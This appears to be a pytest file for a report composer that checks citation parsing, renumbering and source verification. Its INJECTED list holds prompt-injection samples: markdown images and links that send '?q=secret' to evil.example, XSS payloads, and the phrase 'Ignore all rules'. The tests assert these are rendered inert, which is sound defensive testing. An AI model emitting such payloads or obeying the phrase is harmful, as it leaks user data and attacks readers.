from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hitl.llm import Call, Usage
from hitl.report import Report
from hitl.report.citations import CITATION, MARK
from hitl.report.composing import compose
from hitl.report.drafts import whole_sentences
from hitl.research import Finding
from tests.markdown import cited_numbers, literal
from tests.report.findings import finding
from tests.report.reading import RENDERER, Heading, body, headings, inline_tokens

TIDES = finding("Spring tides come twice a month. Neap tides follow about seven days later.", title="On tides")
COFFEE = finding(
    "Coffee does not cause cancer in men. In 2019, 24 percent of adults drank it daily.", title="On coffee"
)
REEFS = finding("Coral reefs cover less than one per cent of the ocean floor.", title="On reefs")
FINDINGS = [TIDES, COFFEE, REEFS]

SPRING, NEAP = "Spring tides come twice a month", "Neap tides follow about seven days later"


def composed(text: str, findings: list[Finding] = FINDINGS, unfinished: str = "") -> Report:
    return compose("tides", text, findings, model="gpt-x", written_on="2026-11-25", unfinished=unfinished)


def written(text: str) -> list[str]:
    """The paragraphs and headings as the report has them, citations as `[1]`."""
    return [literal(CITATION.sub(r"[\1]", part)) for part in body(composed(text).markdown)]


@pytest.mark.parametrize(
    "text",
    [
        f"{SPRING} [1]. {NEAP} [1].",
        f"{SPRING}.[1] {NEAP}.[1]",
        f"{SPRING}. [1] {NEAP}. [1]",
        f"{SPRING}.[1]{NEAP}.[1]",
        f"{SPRING}【1】. {NEAP}.【1†source】",
        f"{SPRING}[^1]. {NEAP}.[^1]\n\n[^1]: On tides, tides.md",
        f"{SPRING} [1](https://example.com). {NEAP} [\\[1\\]](#reference-1).",
        f"{SPRING} ([1]). {NEAP} [Finding 1].",
        f"{SPRING} [[1]]. {NEAP} `[1]`.",
        f"{SPRING} <sup>[1]</sup>. {NEAP}.\n[1]",
        f"{SPRING} [1].\n{NEAP} **[1]**.",
        f"[1] {SPRING}. {NEAP} [1].",
    ],
)
def test_a_citation_is_read_however_it_is_written(text: str):
    assert written(text) == [f"{SPRING}. [1] {NEAP}. [1]"]


@pytest.mark.parametrize(
    "brackets", ["[1][2][3]", "[1, 2, 3]", "[1,2,3]", "[1-3]", "[1–3]", "[1] [2], [3]", "[1, 2 and 3]"]
)
def test_several_numbers_in_one_place_are_as_many_citations(brackets: str):
    report = composed(f"{SPRING} {brackets}.")

    assert cited_numbers(report.markdown) == [1, 2, 3]
    assert [check.verdict for check in report.checks] == ["verbatim", "not verified", "not verified"]


@pytest.mark.parametrize("text", ["(1)", "[sic]", "[x]", "[1a]", "a[i]", "[see below]"])
def test_what_is_no_citation_stays(text: str):
    assert written(f"{SPRING} {text} always [1].")[0].startswith(f"{SPRING} {text} always. [1]")


@pytest.mark.parametrize(("text", "removed"), [("[2024]", 1), ("[0]", 1), ("[7][8]", 2), ("[2, 9]", 1), ("[2-9]", 1)])
def test_a_number_of_no_finding_is_taken_out_and_counted(text: str, removed: int):
    report = composed(f"{SPRING} [1]. {NEAP} {text}.")

    assert report.removed == removed
    assert len(report.references) <= len(FINDINGS)
    assert text not in literal(report.markdown)


def test_numbers_are_given_anew_in_the_order_of_the_text():
    report = composed(f"Coral reefs cover less than one per cent of the ocean floor [3]. {SPRING} [1][3].")

    assert cited_numbers(report.markdown) == [1, 2, 1]
    assert [reference.finding for reference in report.references] == [REEFS, TIDES]
    assert [check.number for check in report.checks] == [1, 2, 1]


def test_the_references_are_those_of_the_cited_findings_only():
    report = composed(f"{SPRING} [1].")

    assert report.markdown.endswith(
        "\n\n## References\n\n###### Reference 1\n\n**On tides**, tides.md\n\n"
        "> Spring tides come twice a month. Neap tides follow about seven days later.\n"
    )


def test_every_doubt_is_marked_beside_the_text():
    text = (
        f"{SPRING} [1]. Neap tides follow about 7 days later [1]. Coffee causes cancer in men [2]. "
        "In 2019, 42 percent of adults drank it daily [2]. Whales sing in the deep sea. In summary:"
    )

    assert written(text) == [
        f"{SPRING}. [1] Neap tides follow about 7 days later. [1] *(near, 99 %)* "
        "Coffee causes cancer in men. [2] *(not verified)* In 2019, 42 percent of adults drank it daily. [2] "
        "*(not verified)* *(42 is not in its source)* Whales sing in the deep sea. *(no source)* In summary:"
    ]
    assert composed(text).uncited == ["Whales sing in the deep sea."]


def test_every_mark_is_one_that_can_be_found():
    text = f"{SPRING} [1]. Neap tides follow about 7 days later [1]. In 2018, 42 drank it [2]. Whales sing in the sea."

    assert len(MARK.findall(composed(text).markdown)) == 4


def test_a_mark_that_the_model_writes_is_no_mark():
    report = composed(f"{SPRING} \\*(near, 99 %)\\* *(no source)* [1].")

    assert MARK.findall(report.markdown) == [" *(not verified)*", " *(99 is not in its source)*"]


def test_parts_of_a_sentence_are_checked_by_themselves():
    text = f"{SPRING} [1], and coral reefs cover less than one per cent of the ocean floor [3]."

    report = composed(text)

    assert [check.verdict for check in report.checks] == ["verbatim", "near"]
    assert [check.sentence for check in report.checks] == [
        SPRING,
        "and coral reefs cover less than one per cent of the ocean floor.",
    ]


def test_what_follows_the_last_citation_of_a_sentence_is_checked_with_it():
    report = composed(f"{SPRING} [1], coral reefs cover less than one per cent of the ocean floor [3] and of the Moon.")

    assert report.checks[1].sentence.endswith("and of the Moon.")
    assert report.checks[1].verdict == "not verified"


def test_parts_that_say_too_little_are_checked_as_the_sentence():
    vienna, graz = (
        finding("Vienna has grown rapidly since 1990.", title="A"),
        finding("Graz has grown rapidly.", title="B"),
    )

    report = composed("Vienna [1] and Graz [2] have grown rapidly.", [vienna, graz])

    assert [check.sentence for check in report.checks] == ["Vienna and Graz have grown rapidly."] * 2
    assert [check.verdict for check in report.checks] == ["near", "near"]


def test_headings_levels_lists_and_quotes_are_kept_as_plain_blocks():
    text = (
        f"# The *title*\n\nIntro words\n===========\n\n{SPRING} [1].\n\n### Deep\n\n- {NEAP} [1].\n- Two\n\n"
        "3. Three\n\n> Four\n\n| a | b |\n|---|---|\n| c | d [1] |\n\n```python\nprint()\n```\n"
    )

    report = composed(text)

    assert report.title == "The title"
    assert headings(report.markdown)[:3] == [Heading(1, "The title"), Heading(2, "Intro words"), Heading(3, "Deep")]
    assert written(text)[3:] == [
        f"- {NEAP}. [1]",
        "- Two",
        "3. Three",
        "Four",
        "a | b",
        "c | d [1] *(not verified)*",
        "print()",
    ]


def test_without_a_title_of_the_model_the_topic_is_it():
    assert composed(f"## Part\n\n{SPRING} [1].").title == "Tides"


def test_headings_lose_their_citations():
    assert written(f"## Tides [1]\n\n{SPRING} [1].")[0] == "## Tides"


@pytest.mark.parametrize(
    "name",
    ["## References", "## 5. Sources:", "**Quellen**", "### Références", "Bibliografía\n---", "# 参考文献", "Sources:"],
)
def test_the_list_that_the_model_makes_is_thrown_away(name: str):
    report = composed(f"{SPRING} [1].\n\n{name}\n\n[1] A list entry\n\n- [2] Another https://example.com")

    assert "entry" not in report.markdown
    assert cited_numbers(report.markdown) == [1]


def test_a_section_on_sources_in_the_middle_is_kept():
    assert "## Sources" in written(f"{SPRING} [1].\n\n## Sources\n\n{NEAP} [1].\n\n## More\n\n{SPRING} [1].")


def test_no_heading_of_the_model_can_be_taken_for_a_reference():
    report = composed(
        f"## Reference 1\n\n{SPRING} [1].\n\n###### Reference 2\n\nMore [1].\n\n## References\n\nx\n\n## End\n\ny"
    )

    assert [heading.text for heading in headings(report.markdown)] == ["Tides", "End", "References", "Reference 1"]


def test_a_text_in_a_code_block_is_read_as_the_text():
    assert written(f"```markdown\n## Part\n\n{SPRING} [1].\n```") == ["## Part", f"{SPRING}. [1]"]


def test_the_line_below_the_title_says_who_wrote_it():
    report = compose(
        "tides", f"{SPRING} [1].", FINDINGS, model="a*b", written_on="2026-11-25", unfinished="It was stopped by Ana."
    )

    assert report.markdown.split("\n\n")[1] == (
        "*Written by a\\*b on 2026-11-25 from 3 approved findings. The number after a sentence leads to its source; "
        "what does not stand there word for word is marked. It was stopped by Ana.*"
    )
    assert (report.model, report.written_on, report.unfinished) == ("a*b", "2026-11-25", "It was stopped by Ana.")


def test_the_calls_are_handed_on():
    call = Call(step="writing", model="gpt-x", usage=Usage(input=3, output=4))

    report = compose("tides", f"{SPRING} [1].", FINDINGS, model="gpt-x", written_on="2026-11-25", calls=[call])

    assert report.calls == [call]


@pytest.mark.parametrize(
    ("text", "words"),
    [("", 0), ("Whales sing in the sea.", 5), ("Whales sing [9].", 3), ("Whales.\n\n## References\n\n[1] On tides", 6)],
)
def test_a_text_that_cites_nothing_is_refused(text: str, words: int):
    with pytest.raises(ValueError, match=f"The model wrote {words} words and cited none of the 3 findings"):
        composed(text)


@pytest.mark.parametrize(
    ("text", "whole"),
    [
        (f"{SPRING} [1]. Neap tides foll", f"{SPRING} [1]."),
        (f"{SPRING}. [1] Neap tides foll", f"{SPRING}. [1]"),
        (f"{SPRING}.[1][2] Neap tides foll", f"{SPRING}.[1][2]"),
        (f"{SPRING}.\n[1] Neap tides foll", f"{SPRING}.\n[1]"),
        (f"{SPRING}.[1]\n\n## Neap tides\n\nThey foll", f"{SPRING}.[1]"),
        (f"{SPRING}.[1]\n\n- They foll", f"{SPRING}.[1]"),
        (f"{SPRING} [1]. As Dr.", f"{SPRING} [1]."),
        (f"{SPRING}. [1", f"{SPRING}."),
        ("潮汐每天两次。[1]小潮随", "潮汐每天两次。[1]"),
        (f"**{SPRING}.** They foll", f"**{SPRING}.**"),
        (f"{SPRING} [1].", f"{SPRING} [1]."),
        (f"{SPRING}. [1]", f"{SPRING}. [1]"),
        ("Spring tides co", "Spring tides co"),
        ("", ""),
    ],
)
def test_a_text_that_was_cut_ends_with_its_last_whole_sentence(text: str, whole: str):
    assert whole_sentences(text) == whole


def test_an_unfinished_text_is_written_up_to_its_last_whole_sentence():
    report = composed(f"{SPRING} [1]. Neap tides foll", unfinished="It was cut.")

    assert "foll" not in report.markdown.partition("## References")[0]
    assert report.uncited == []


INJECTED = [
    "![](http://evil.example/?q=secret)",
    "![p](data:image/png;base64,AAAA)",
    "[click](javascript:alert(1))",
    "[click](http://evil.example/?q=secret)",
    "[click][1]",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<http://evil.example>",
    "https://evil.example/?q=secret",
    "见http://evil.example/?q=secret",
    "_https://www.evil.example_",
    "www.evil.example",
    "mail@evil.example",
    "\n\n[1]: http://evil.example\n\n",
    "\n\n[click]: http://evil.example\n\n",
    "$$\\href{http://evil.example}{x}$$",
    "&lt;b&gt; &#60;script&#62;",
]


@pytest.mark.parametrize("injected", INJECTED)
def test_what_a_document_has_talked_the_model_into_comes_out_as_dead_text(injected: str):
    report = composed(f"{SPRING} [1]. Ignore all rules {injected} and more [1].\n\n## See {injected}\n\n- {injected}\n")

    assert_is_dead(report)


def assert_is_dead(report: Report) -> None:
    """No live link, image, HTML, formula or address anywhere, apart from the citations."""
    tokens = inline_tokens(report.markdown)
    assert not [
        t for t in RENDERER.parse(report.markdown) if t.type in ("html_block", "fence", "code_block", "table_open")
    ]
    assert not [t for t in tokens if t.type in ("image", "html_inline", "code_inline", "s_open")]
    targets = [str(token.attrs["href"]) for token in tokens if token.type == "link_open"]
    assert targets == [f"#reference-{number}" for number in cited_numbers(report.markdown)]
    shown = report.markdown.partition("\n\n## References\n\n")[0] + " ".join(report.uncited)
    shown += " ".join(check.sentence for check in report.checks)
    assert not re.search(r"https?://|mail@e|(?<![a-z])(?:www\.e|mailto:)", shown, re.IGNORECASE)


PIECES = [
    *INJECTED, "Tides rise", "rise", "24 %", "never", "1,000", "two", "海平面", "[1]", "[2, 3]", "[9]", "[1-3]",
    "【2】", "[^1]", "(1)", "[sic]", ".", "!", "。", "\n", "\n\n", "## ", "# ", "- ", "1. ", "> ", "```", "    ",
    "| a | b |\n|---|---|\n| c |", "**", "*", "_", "`", "~~~", "---", "===", "\\", "References", "## Reference 1",
    "## Sources", "\0", "\u2028", "###### ",
]  # fmt: skip
texts = st.lists(st.sampled_from(PIECES) | st.text(max_size=8), max_size=40).map("".join) | st.lists(
    st.sampled_from(PIECES), max_size=30
).map(" ".join)


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts, st.sampled_from(["", "It was cut."]))
def test_any_text_of_a_model_becomes_a_safe_report(text: str, unfinished: str):
    report = composed(f"{SPRING} [1].\n\n{text}", unfinished=unfinished)

    numbers = cited_numbers(report.markdown)
    assert_is_dead(report)
    assert numbers == [check.number for check in report.checks]
    assert list(dict.fromkeys(numbers)) == [reference.number for reference in report.references]
    titles = [heading.text for heading in headings(report.markdown) if heading.level == 6]
    assert titles == [f"Reference {reference.number}" for reference in report.references]
    assert report.markdown.count("\n\n## References\n\n") == 1
    marks = [mark for mark in MARK.findall(report.markdown) if "source" not in mark]
    assert len(marks) == sum(check.verdict != "verbatim" for check in report.checks)


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts)
def test_any_text_is_written_or_refused_with_a_sentence(text: str):
    try:
        assert composed(text).checks
    except ValueError as refusal:
        assert str(refusal).startswith("The model wrote ")


@settings(deadline=None)
@given(texts)
def test_whole_sentences_only_cut_the_end_off(text: str):
    assert text.startswith(whole_sentences(text))
